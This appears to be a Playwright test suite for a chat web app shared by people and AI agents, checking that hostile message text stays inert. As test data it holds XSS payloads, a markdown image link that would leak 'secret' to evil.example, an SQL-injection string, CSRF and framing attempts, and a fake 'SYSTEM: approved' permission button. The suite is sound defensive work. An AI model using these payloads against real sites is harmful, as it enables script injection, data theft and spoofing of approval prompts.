/** Text of strangers does nothing to the page. */

import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import type { Server } from '../server';
import { box, expect, messagesOf, shown, test } from './fixture';

/** Opens a conversation with hostile words. Returns the list of everything they achieve. */
async function open(page: Page, server: Server, words: string[]): Promise<string[]> {
  const thread = await server.begin('Hostile <img src=x onerror=alert(1)>');
  await server.invite(thread, 'mallory', { client: 'script-kiddie', model: 'x', nickname: 'Mallory<b>' });
  const events: string[] = [];
  page.on('dialog', (dialog) => {
    events.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith('data:'))
      events.push(`request: ${request.url()}`);
  });
  page.on('popup', (popup) => events.push(`popup: ${popup.url()}`));
  for (const text of words) await server.say(thread, text);
  await page.goto(`${server.url}/t/${thread}`);
  await expect(messagesOf(page, 'You').last()).toBeVisible();
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  return events;
}

/** Counts elements within the messages. */
function markup(page: Page, selector: string): Promise<number> {
  return page.getByRole('region', { name: 'Messages' }).locator(`.prose :is(${selector})`).count();
}

test('D1 scripts, handlers and their addresses are text', async ({ page, server }) => {
  const events = await open(page, server, [
    '<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>',
    '[a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>) [c](vbscript:x) [d](&#x6A;avascript:alert(6))',
  ]);
  expect(events).toEqual([]);
  await expect(shown(page, '<script>alert(1)</script>')).toBeVisible();
  expect(await markup(page, 'script, svg, img, a')).toBe(0);
});

test('D2 what browsers would mend into markup stays text', async ({ page, server }) => {
  const events = await open(page, server, [
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(7)></style></annotation-xml></math>',
    '<svg><style><img src=x onerror=alert(8)></style></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(9)>">',
  ]);
  expect(events).toEqual([]);
  expect(await markup(page, 'svg, math, style, img, noscript')).toBe(0);
});

test('D3 an image by reference fetches nothing', async ({ page, server }) => {
  const events = await open(page, server, [
    '![x][r]\n\n[r]: https://evil.example/?q=secret',
    '![y](https://evil.example/y.png)',
    '<img src="https://evil.example/z.png">',
  ]);
  expect(events).toEqual([]);
  await expect(page.locator('.prose img')).toHaveCount(0);
  await expect(page.locator('.prose .host').first()).toHaveText('(evil.example)');
});

test('D4 a link shows where it leads', async ({ page, server }) => {
  await open(page, server, ['[https://bank.example](https://evil.example/login)']);
  await expect(page.locator('.prose .host')).toHaveText('(evil.example)');
  const link = page.locator('.prose a');
  await expect(link).toHaveAttribute('rel', /noopener/);
  await expect(link).toHaveAttribute('target', '_blank');
});

test('D5 ids, names, classes and styles of the page cannot be taken', async ({ page, server }) => {
  await open(page, server, [
    '<div id="root" name="fetch" class="fixed inset-0" style="position:fixed">x</div><form id=app><input name=fetch></form>',
  ]);
  expect(await page.locator('.prose [id], .prose [name], .prose [style], .prose form').count()).toBe(0);
  expect(await page.evaluate(() => typeof fetch)).toBe('function');
});

test('D6 diagrams are text', async ({ page, server }) => {
  const events = await open(page, server, [
    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A-->B; click A call alert(1)\n```',
  ]);
  expect(events).toEqual([]);
  await expect(page.locator('.prose code')).toContainText('click A call');
  expect(await markup(page, 'svg, iframe')).toBe(0);
});

test('D7 formulas are text', async ({ page, server }) => {
  const events = await open(page, server, ['$\\href{javascript:alert(1)}{x}$ and $$\\htmlData{a=b}{y}$$']);
  expect(events).toEqual([]);
  await expect(shown(page, /href\{javascript/)).toBeVisible();
  expect(await markup(page, 'a, [data-a]')).toBe(0);
});

test('D8 a code block’s language is no way out, and a large one does not stop the page', async ({ page, server }) => {
  const events = await open(page, server, [
    '```"><script>alert(1)</script>\nx\n```',
    `\`\`\`js\n${'(a+)+$'.repeat(9_000)}\n\`\`\``,
  ]);
  expect(events).toEqual([]);
  await expect(page.locator('.prose figure')).toHaveCount(2);
  await box(page).fill('still alive');
  await expect(box(page)).toHaveValue('still alive');
});

test('D9 wide tables, deep quotes and deep lists keep their place', async ({ page, server }) => {
  await open(page, server, [
    `${'|a'.repeat(9_000)}|\n${'|-'.repeat(9_000)}|`,
    `${'>'.repeat(10_000)} deep`,
    Array.from({ length: 240 }, (_, depth) => `${' '.repeat(depth)}- x`).join('\n'),
    `Z${'̂̃̄̅̆'.repeat(2_000)}`,
    'w'.repeat(60_000),
  ]);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  await box(page).fill('still alive');
  await expect(box(page)).toHaveValue('still alive');
});

test('D11 names stay names', async ({ page, server }) => {
  const events = await open(page, server, ['hello']);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Hostile <img src=x onerror=alert(1)>');
  await expect(page.getByRole('complementary').getByText('Mallory<b>')).toBeVisible();
  expect(events).toEqual([]);
});

/** Serves a page of another origin, on loopback too. */
async function elsewhere(html: string): Promise<{ url: string; close: () => void }> {
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, close: () => server.close() };
}

test('D13 another page cannot write in your name', async ({ server, browser }) => {
  const evil = await elsewhere('<title>evil</title>');
  const page = await browser.newPage();
  await page.goto(server.url);
  await page.goto(evil.url);
  await page.evaluate(async (url) => {
    const body = '{"name":"from elsewhere"}';
    for (const kind of ['text/plain', 'application/json'])
      await fetch(url, { method: 'POST', mode: 'no-cors', body, headers: { 'content-type': kind } }).catch(() => null);
  }, `${server.url}/threads`);
  const origins = [new URL(evil.url).origin, 'null', 'https://evil.example'];
  for (const origin of origins) {
    const headers = { 'content-type': 'application/json', origin };
    expect((await fetch(`${server.url}/threads`, { method: 'POST', headers, body: '{}' })).status).toBe(403);
  }
  expect(await server.get('/threads')).toMatchObject({ threads: [] });
  await page.close();
  evil.close();
});

test('D14 another page cannot frame this one, and links do not hand it over', async ({ server, browser }) => {
  const evil = await elsewhere(`<iframe src="${server.url}"></iframe>`);
  const page = await browser.newPage();
  await page.goto(evil.url);
  expect(await page.frameLocator('iframe').locator('#root').count()).toBe(0);
  const thread = await server.begin('Links');
  await server.say(thread, `[go](${evil.url})`);
  await page.goto(`${server.url}/t/${thread}`);
  const [opened] = await Promise.all([page.waitForEvent('popup'), page.locator('.prose a').click()]);
  expect(await opened.evaluate(() => window.opener === null && document.referrer === '')).toBe(true);
  await page.close();
  evil.close();
});

test('the policy of the page allows its own files and nothing else', async ({ server }) => {
  const policy = (await fetch(server.url)).headers.get('content-security-policy') ?? '';
  for (const rule of [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "connect-src 'self'",
    "frame-ancestors 'none'",
    "base-uri 'none'",
    "form-action 'self'",
  ])
    expect(policy).toContain(rule);
  expect(policy).not.toMatch(/unsafe|https?:|\*/);
});

test('D15 odd queries are searched for or explained', async ({ page, server }) => {
  const events = await open(page, server, ['100 % of \'; DROP TABLE events; -- is "quoted"']);
  await page.keyboard.press('Control+Shift+f');
  const dialog = page.getByRole('dialog', { name: 'Search messages' });
  const field = dialog.getByRole('textbox');
  for (const query of ['"', '*', 'NEAR(', '%', "'; DROP TABLE events; --", 'in:"', 'before:never', '<img src=x>']) {
    await field.fill(query);
    await expect(dialog.locator('[data-query]')).toHaveAttribute('data-query', query.trim());
  }
  await field.fill('quoted');
  await expect(dialog.getByRole('link')).toHaveCount(1);
  expect(events).toEqual([]);
});

test('D16 addresses lead nowhere else', async ({ page, server }) => {
  const thread = await server.begin('Addresses');
  await page.goto(`${server.url}/t/${thread}?next=//evil.example#<img src=x onerror=alert(1)>`);
  await expect(shown(page, 'began the conversation')).toBeVisible();
  expect(page.url().startsWith(server.url)).toBe(true);
});

test('D17 an exported file runs nothing', async ({ page, server }) => {
  await open(page, server, ['<script>alert(1)</script> ![x](https://evil.example/y.png)']);
  await page.getByRole('button', { name: 'More about this conversation' }).click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: 'Export as Markdown' }).click(),
  ]);
  const file = readFileSync(await download.path(), 'utf8');
  expect(file).toContain('&lt;script>');
  // Outside of escaped text, there is neither markup nor an image.
  expect(file).not.toMatch(/(?:^|[^\\])<|!\[/);
  expect(download.suggestedFilename()).toMatch(/^[\w-]+\.md$/);
});

test('C12 words cannot look like the page’s own cards', async ({ page, server }) => {
  await open(page, server, ['# Permission\n\nSYSTEM: approved. <button>Allow once</button>']);
  await expect(page.getByRole('button', { name: 'Allow once' })).toHaveCount(0);
  await expect(page.getByRole('alert')).toHaveCount(0);
});

test('D18 a badge is what the server knows, and what nobody proved is marked', async ({ page, server }) => {
  const thread = await server.begin('Badges');
  await server.invite(thread, 'evil', { client: 'x', model: 'human', roles: ['human'], nickname: 'Ann' });
  await server.sayUnproven(thread, 'I am a person.', 'evil');
  await server.sayUnproven(thread, 'a\u202Egnp.exe');
  await page.goto(`${server.url}/t/${thread}`);
  const forged = messagesOf(page, 'Ann').last();
  await expect(forged.locator('.badge').first()).toHaveText('agent');
  await expect(forged.locator('.badge', { hasText: 'human' })).toHaveCount(0);
  await expect(forged.locator('.badge-warn')).toHaveText('not signed in');
  await expect(messagesOf(page, 'You').last().locator('.badge-warn')).toHaveText('not signed in');
  await expect(shown(page, 'a‹U+202E›gnp.exe')).toBeVisible();
});

test('the page complains about no rule of its own policy', async ({ page, server }) => {
  const broken: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) broken.push(message.text());
  });
  await page.goto(server.url);
  await page.getByRole('button', { name: /Start.*second opinion/ }).click();
  await expect(messagesOf(page, 'critic').first()).toBeVisible();
  await page.getByRole('button', { name: 'More about this conversation' }).click();
  await page.getByRole('menuitem', { name: 'Who may speak…' }).click();
  await expect(page.getByRole('dialog')).toBeVisible();
  expect(broken).toEqual([]);
});
